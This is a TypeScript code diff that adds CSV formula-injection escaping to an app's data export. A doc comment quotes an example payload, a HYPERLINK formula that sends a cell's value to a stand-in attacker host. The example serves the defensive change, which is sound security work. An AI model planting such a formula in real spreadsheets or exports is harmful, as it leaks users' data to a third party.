@@ -41,13 +41,34 @@ export async function exportRows(db: Db, q: ExportQuery) {
 	return { rows: await db.query<Record<string, unknown>>(query), columns };
 }
 
-/** CSV with the exact canonical header; NULL → empty cell; CRLF-free (\n) lines. */
+/**
+ * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
+ * return before one) as a formula, e.g. `=HYPERLINK("http://evil.example/?"&A1, "…")` planted in
+ * a post text. Every CSV Sablier writes prefixes such TEXT cells with a single quote, as OWASP
+ * advises; numbers are written as numbers (-12 stays -12, a negative count is not a formula).
+ * JSON and Parquet exports stay exact. The regex spans lines (Papa's own default does not).
+ */
+export const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** A text cell as every Sablier CSV writes it (prefixed with ' when it would start a formula). */
+export function csvSafe(value: string): string {
+	return FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/**
+ * CSV with the exact canonical header; NULL → empty cell; CRLF-free (\n) lines; text cells that a
+ * spreadsheet would run as a formula are prefixed with ' (see FORMULA_START). Use it (or
+ * `csvSafe`) for every CSV the app writes.
+ */
 export function toCsv(
 	rows: readonly Record<string, unknown>[],
 	columns: readonly string[]
 ): string {
 	const data = rows.map((r) => columns.map((c) => (r[c] === null ? '' : r[c])));
-	return Papa.unparse({ fields: [...columns], data }, { newline: '\n' }) + '\n';
+	return (
+		Papa.unparse({ fields: [...columns], data }, { newline: '\n', escapeFormulae: FORMULA_START }) +
+		'\n'
+	);
 }
 
 /**
